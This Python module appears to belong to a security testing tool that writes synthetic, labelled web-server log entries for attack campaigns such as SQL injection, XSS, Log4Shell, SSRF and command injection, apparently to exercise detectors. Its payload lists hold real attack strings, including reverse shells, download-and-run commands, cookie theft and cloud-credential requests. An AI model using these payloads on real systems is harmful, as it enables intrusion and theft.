# ruff: noqa: E501 -- payloads and agents are verbatim strings; splitting them would hide typos.
"""Web injection and probing campaigns: one payload family per class.

Each campaign is one client sending a few dozen requests over minutes; the
evasive variant encodes payloads (:mod:`~sentinel.scenarios.evasion`), the
successful variant ends with a request the server answered 2xx, with a
response larger than the path's usual size where the class leaks data.

.. versionadded:: 0.1
"""

from __future__ import annotations

from urllib.parse import quote

from sentinel.scenarios import catalog as cat
from sentinel.scenarios.context import Context
from sentinel.scenarios.evasion import evade, pct
from sentinel.scenarios.plan import Actors, CampaignFn, Plan

__all__ = ["WEB_ATTACKS"]

ATTACK_AGENTS: tuple[str, ...] = (
    "curl/8.4.0",
    "python-requests/2.31.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Safari/537.36",
    "Go-http-client/1.1",
)

SQLI = (
    "' OR '1'='1",
    "' OR 1=1-- -",
    " AND 1=1",
    " AND 1=2",
    "' UNION SELECT NULL,NULL,NULL-- -",
    "' UNION SELECT username,password,email FROM users-- -",
    "' AND SLEEP(5)-- -",
    "; DROP TABLE users--",
    "' AND extractvalue(1,concat(0x7e,(SELECT database())))-- -",
    " WAITFOR DELAY '0:0:5'--",
    "' OR ''='",
    "'--",
    " ORDER BY 5-- -",
    " UNION ALL SELECT table_name,2,3 FROM information_schema.tables-- -",
    "' AND pg_sleep(5)--",
    '" OR ""="',
)
SQLI_TARGETS = (
    ("/products/view", "id", "1042"),
    ("/search", "q", "boots"),
    ("/api/v1/products", "page", "2"),
)
XSS = (
    "<script>alert(1)</script>",
    '"><script>alert(document.cookie)</script>',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert('xss')>",
    "javascript:alert(1)",
    "'><iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\"><img src=x onerror=fetch('//203.0.113.77/c?'+document.cookie)>",
    "<details open ontoggle=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
)
XSS_TARGETS = (("/search", "q", ""), ("/contact", "name", ""), ("/view", "page", ""))
TRAVERSAL = (
    "../../../../etc/passwd",
    "../../../../../../etc/shadow",
    "..\\..\\..\\windows\\win.ini",
    "../../../../etc/passwd\x00",
    "....//....//....//etc/passwd",
    "..;/..;/..;/etc/passwd",
    "../../../../proc/self/environ",
    "../../../../var/log/nginx/access.log",
    "php://filter/convert.base64-encode/resource=../config.php",
    "../../../../../../home/alice/.ssh/id_rsa",
    "/etc/passwd",
)
TRAVERSAL_PATHS = (
    "/static/../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/static/%2e%2e/%2e%2e/%2e%2e/etc/hosts",
)
TRAVERSAL_TARGETS = (("/view", "page", ""), ("/download", "file", ""))
RFI = (
    "http://203.0.113.66/shell.txt?",
    "https://198.51.100.23/r57.txt",
    "ftp://198.51.100.23/x.txt",
    "http://evil.example.net/c99.txt\x00",
    "\\\\203.0.113.66\\share\\shell.php",
    "http://pastebin.com/raw/aB3dE9fG",
    "https://raw.githubusercontent.com/x0rz/shells/main/wso.txt?",
)
CMDI = (
    ";cat /etc/passwd",
    "|id",
    "`id`",
    "$(id)",
    "; wget http://203.0.113.50/x.sh -O /tmp/x.sh; sh /tmp/x.sh",
    "&& curl -s http://198.51.100.61/b | bash",
    "| nc 203.0.113.50 4444 -e /bin/sh",
    ";uname -a",
    "; bash -i >& /dev/tcp/203.0.113.50/4444 0>&1",
    ";${IFS}cat${IFS}/etc/passwd",
    "|| ping -c 3 198.51.100.61",
    "\nid",
)
CMDI_TARGETS = (
    ("/api/v1/shipping/track", "number", "1Z999AA10123456784"),
    ("/view", "page", "about"),
    ("/download", "file", "manual-120.pdf"),
)
SHELLSHOCK = "() { :; }; /bin/bash -c 'wget http://203.0.113.50/bot -O /tmp/bot; chmod +x /tmp/bot'"
JNDI_PLAIN = (
    "${jndi:ldap://198.51.100.9:1389/Exploit}",
    "${jndi:rmi://203.0.113.14:1099/a}",
    "${jndi:dns://x7f3.interact.example.net/a}",
    "${jndi:ldaps://198.51.100.9:636/b}",
)
JNDI_OBFUSCATED = (
    "${${lower:j}ndi:${lower:l}dap://198.51.100.9:1389/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.9/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.9/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://198.51.100.9/a}",
    "${${upper:j}ndi:ldap://198.51.100.9/a}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "${jndi:ldap://${env:USER}.198.51.100.9.nip.io/a}",
    "${sys:java.version}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://198.51.100.9/a}",
)
SSRF_PLAIN = (
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
)
SSRF_EVASIVE = (
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://100.100.100.200/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://metadata/computeMetadata/v1/",
    "gopher://127.0.0.1:6379/_INFO",
    "file:///etc/passwd",
    "http://127.0.0.1:8080/admin",
)
PHP = (
    ("POST", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
    ("POST", "/view?page=php://input"),
    ("GET", "/view?page=" + pct("data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==")),
    ("GET", "/search?q=" + pct("<?php system($_GET['c']); ?>")),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    (
        "GET",
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
        "&vars[0]=system&vars[1][]=id",
    ),
    ("GET", "/?x=" + pct("eval(base64_decode('ZWNobyAnaGknOw=='));")),
    ("GET", "/?cmd=" + pct("system('id');")),
    ("GET", "/?a=" + pct("assert($_POST['x'])")),
    ("GET", "/?f=passthru&c=id"),
    ("GET", "/view?page=expect://id"),
)
PHP_EVASIVE = (
    "<?PhP SyStEm($_GET['c']); ?>",
    "<?=`$_GET[c]`?>",
    "eVaL(bAsE64_DeCoDe('c3lzdGVtKCdpZCcpOw=='))",
    "php://input",
    "<?php passthru('id'); ?>",
    'system("id");',
)
SENSITIVE = (
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/backup.zip",
    "/wp-config.php.bak",
    "/config.php~",
    "/.aws/credentials",
    "/.DS_Store",
    "/server-status",
    "/phpinfo.php",
    "/.htpasswd",
    "/db.sql",
    "/dump.sql.gz",
    "/etc/passwd",
    "/.ssh/id_rsa",
    "/backup.tar.gz",
    "/.svn/entries",
    "/api/.env",
    "/.env.production",
    "/web.config",
    "/.vscode/sftp.json",
    "/database.yml",
    "/storage/logs/laravel.log",
)
SENSITIVE_EVASIVE = (
    "/%2eenv",
    "/.git%2fconfig",
    "//.git//config",
    "/.ENV",
    "/static/..%2f.env",
    "/.env%00.jpg",
    "/.env;.css",
    "/%2e%67%69%74/config",
    "/./.env",
    "/.git/./config",
    "/wp-config.php%7e",
    "/%2e%61ws/credentials",
)
SCANNER_AGENTS = (
    "sqlmap/1.7.11#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "gobuster/3.6",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
)
SCANNER_AGENTS_EVASIVE = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 sqlmap/1.6.12",
    "Mozilla/5.0 (X11; Linux x86_64) Nikto",
    "Mozilla/5.0 (compatible; nuclei/3.1.0)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
)
_MILD_PATHS = ("/", "/robots.txt", "/favicon.ico", "/sitemap.xml", "/products", "/login", "/blog")
_FORBIDDEN_SIZE = 555
_NOT_FOUND_SIZE = 3650


class _Client:
    """One attacking client writing tagged access.log lines."""

    def __init__(self, ctx: Context, plan: Plan, agent: str | None = None) -> None:
        self.ctx = ctx
        self.plan = plan
        self.ip = ctx.pool.take(cat.ATTACK_PREFIXES + cat.DOC_PREFIXES)
        self.agent = agent or ctx.rng.choice(ATTACK_AGENTS)

    def send(
        self,
        ts: float,
        method: str,
        target: str,
        status: int,
        size: int,
        *,
        evidence: bool = False,
        agent: str | None = None,
        referer: str = "-",
    ) -> None:
        self.ctx.timeline.web(
            ts,
            self.ip,
            f"{method} {target} HTTP/1.1",
            status,
            size,
            referer,
            agent or self.agent,
            tag=self.plan.id,
            evidence=evidence,
        )

    def failure(self, path: str) -> tuple[int, int]:
        """A typical non-success answer for a probe of ``path``."""
        rng = self.ctx.rng
        status = rng.choice((200, 200, 400, 403, 404, 500))
        sizes = {
            200: self.ctx.site.size(path, rng),
            400: 157,
            403: _FORBIDDEN_SIZE,
            404: _NOT_FOUND_SIZE,
            500: 177,
        }
        return status, sizes[status]


def _encode(ctx: Context, plan: Plan, payload: str, kinds: tuple[str, ...]) -> str:
    return evade(payload, ctx.rng, kinds) if plan.evasive else pct(payload)


def _injection(
    ctx: Context,
    plan: Plan,
    payloads: tuple[str, ...],
    targets: tuple[tuple[str, str, str], ...],
    kinds: tuple[str, ...],
) -> tuple[_Client, float, list[str]]:
    """Send ``payloads`` appended to parameters of ``targets``; return client, end time, paths."""
    rng = ctx.rng
    client = _Client(ctx, plan)
    ts, _ = ctx.window(rng.uniform(300, 1800))
    used: list[str] = []
    for _ in range(rng.randint(20, 60)):
        path, param, base = rng.choice(targets)
        target = f"{path}?{param}={pct(base)}{_encode(ctx, plan, rng.choice(payloads), kinds)}"
        client.send(ts, "GET", target, *client.failure(path))
        used.append(path)
        ts += rng.uniform(1.0, 30.0)
    return client, ts, sorted(set(used))


def sqli(ctx: Context, plan: Plan) -> Actors:
    """SQL injection against id, search and API parameters."""
    client, ts, paths = _injection(
        ctx, plan, SQLI, SQLI_TARGETS, ("double", "plus", "case", "comments", "tabs")
    )
    if plan.succeed:
        payload = "-1' UNION SELECT username,password,email FROM users-- -"
        target = f"/products/view?id={_encode(ctx, plan, payload, ('case', 'comments'))}"
        size = ctx.site.size("/products/view", ctx.rng) * ctx.rng.randint(6, 10)
        client.send(ts, "GET", target, 200, size, evidence=True)
    return Actors([client.ip], targets=paths)


def xss(ctx: Context, plan: Plan) -> Actors:
    """Reflected XSS probes in search, contact and page parameters."""
    client, _, paths = _injection(
        ctx, plan, XSS, XSS_TARGETS, ("double", "case", "entities", "tabs")
    )
    return Actors([client.ip], targets=paths)


def path_traversal(ctx: Context, plan: Plan) -> Actors:
    """Directory traversal and LFI through parameters and raw paths."""
    client, ts, paths = _injection(
        ctx, plan, TRAVERSAL, TRAVERSAL_TARGETS, ("double", "overlong", "unicode")
    )
    for raw in ctx.rng.sample(TRAVERSAL_PATHS, 2):
        ts += ctx.rng.uniform(1.0, 10.0)
        client.send(ts, "GET", raw, 400, 157)
    if plan.succeed:
        payload = _encode(ctx, plan, "../../../../etc/passwd", ("double", "overlong"))
        size = ctx.site.size("/view", ctx.rng) + 1874
        client.send(ts + 3.0, "GET", f"/view?page={payload}", 200, size, evidence=True)
    return Actors([client.ip], targets=paths)


def rfi(ctx: Context, plan: Plan) -> Actors:
    """Remote file inclusion of attacker-hosted scripts."""
    targets = (("/view", "page", ""), ("/download", "file", ""))
    client, _, paths = _injection(ctx, plan, RFI, targets, ("double", "case"))
    return Actors([client.ip], targets=paths)


def command_injection(ctx: Context, plan: Plan) -> Actors:
    """OS command injection in parameters, plus a Shellshock user agent."""
    client, ts, paths = _injection(ctx, plan, CMDI, CMDI_TARGETS, ("double", "tabs", "plus"))
    client.send(ts, "GET", "/cgi-bin/status", 404, _NOT_FOUND_SIZE, agent=SHELLSHOCK)
    return Actors([client.ip], targets=[*paths, "/cgi-bin/status"])


def jndi(ctx: Context, plan: Plan) -> Actors:
    """Log4Shell-style lookups in the user agent, referer, query and path."""
    rng = ctx.rng
    client = _Client(ctx, plan)
    ts, _ = ctx.window(rng.uniform(120, 900))
    payloads = JNDI_OBFUSCATED if plan.evasive else JNDI_PLAIN
    paths = set()
    for _ in range(rng.randint(10, 30)):
        payload = rng.choice(payloads)
        roll = rng.random()
        if roll < 0.5:
            client.send(ts, "GET", "/", 200, ctx.site.size("/", rng), agent=payload)
            paths.add("/")
        elif roll < 0.6:
            client.send(ts, "GET", "/login", 200, ctx.site.size("/login", rng), referer=payload)
            paths.add("/login")
        elif roll < 0.9:
            value = _encode(ctx, plan, payload, ("double", "plus"))
            client.send(ts, "GET", f"/search?q={value}", 200, ctx.site.size("/search", rng))
            paths.add("/search")
        else:
            client.send(ts, "GET", "/" + quote(payload, safe="/:"), 404, _NOT_FOUND_SIZE)
        ts += rng.uniform(0.5, 20.0)
    return Actors([client.ip], targets=sorted(paths))


def ssrf(ctx: Context, plan: Plan) -> Actors:
    """Server-side request forgery toward cloud metadata and internal services."""
    rng = ctx.rng
    client = _Client(ctx, plan)
    ts, _ = ctx.window(rng.uniform(300, 1200))
    payloads = SSRF_EVASIVE if plan.evasive else SSRF_PLAIN
    for _ in range(rng.randint(10, 30)):
        value = _encode(ctx, plan, rng.choice(payloads), ("double",))
        path = rng.choice(("/api/v1/preview", "/api/v1/preview", "/download"))
        param = "url" if path == "/api/v1/preview" else "file"
        status = rng.choice((400, 502, 200))
        size = {400: 157, 502: 166, 200: ctx.site.size(path, rng)}[status]
        client.send(ts, "GET", f"{path}?{param}={value}", status, size)
        ts += rng.uniform(1.0, 25.0)
    if plan.succeed:
        value = pct("http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-role")
        size = ctx.site.size("/api/v1/preview", rng) * rng.randint(4, 6)
        client.send(ts, "GET", f"/api/v1/preview?url={value}", 200, size, evidence=True)
    return Actors([client.ip], targets=["/api/v1/preview", "/download"])


def php_injection(ctx: Context, plan: Plan) -> Actors:
    """PHP code injection: php://input, eval/base64, ThinkPHP and PHPUnit RCE probes."""
    rng = ctx.rng
    client = _Client(ctx, plan)
    ts, _ = ctx.window(rng.uniform(120, 900))
    paths = set()
    for _ in range(rng.randint(10, 30)):
        if plan.evasive:
            method = "GET"
            target = "/search?q=" + evade(rng.choice(PHP_EVASIVE), rng, ("double", "case", "plus"))
        else:
            method, target = rng.choice(PHP)
        path = target.split("?", 1)[0]
        status = 404 if path not in ctx.site.sizes else rng.choice((200, 400))
        size = {404: _NOT_FOUND_SIZE, 400: 157, 200: ctx.site.size(path, rng)}[status]
        client.send(ts, method, target, status, size)
        paths.add(path)
        ts += rng.uniform(0.5, 15.0)
    return Actors([client.ip], targets=sorted(paths))


def sensitive_files(ctx: Context, plan: Plan) -> Actors:
    """Probing for secrets: dotfiles, VCS metadata, backups, config copies."""
    rng = ctx.rng
    client = _Client(ctx, plan)
    ts, _ = ctx.window(rng.uniform(60, 600))
    pool = SENSITIVE_EVASIVE if plan.evasive else SENSITIVE
    probes = rng.sample(pool, min(len(pool), rng.randint(8, 20)))
    for path in probes:
        denied = ".git" in path or ".ht" in path
        status, size = (403, _FORBIDDEN_SIZE) if denied else (404, _NOT_FOUND_SIZE)
        client.send(ts, "GET", path, status, size)
        ts += rng.uniform(0.2, 5.0)
    targets = list(probes)
    if plan.succeed:
        for path, size in (("/.env", 642), ("/.git/config", 263)):
            ts += rng.uniform(0.2, 3.0)
            client.send(ts, "GET", path, 200, size, evidence=True)
            targets.append(path)
    return Actors([client.ip], targets=sorted(set(targets)))


def scanner_ua(ctx: Context, plan: Plan) -> Actors:
    """A known scanning tool, recognisable only by its user agent."""
    rng = ctx.rng
    agents = SCANNER_AGENTS_EVASIVE if plan.evasive else SCANNER_AGENTS
    client = _Client(ctx, plan, agents[plan.index % len(agents)])
    ts, _ = ctx.window(rng.uniform(30, 600))
    for _ in range(rng.randint(5, 40)):
        path = rng.choice(_MILD_PATHS)
        client.send(ts, "GET", path, 200, ctx.site.size(path, rng))
        ts += rng.uniform(0.1, 10.0)
    return Actors([client.ip], targets=list(_MILD_PATHS))


WEB_ATTACKS: dict[str, CampaignFn] = {
    "sqli": sqli,
    "xss": xss,
    "path_traversal": path_traversal,
    "rfi": rfi,
    "command_injection": command_injection,
    "jndi": jndi,
    "ssrf": ssrf,
    "php_injection": php_injection,
    "sensitive_files": sensitive_files,
    "scanner_ua": scanner_ua,
}
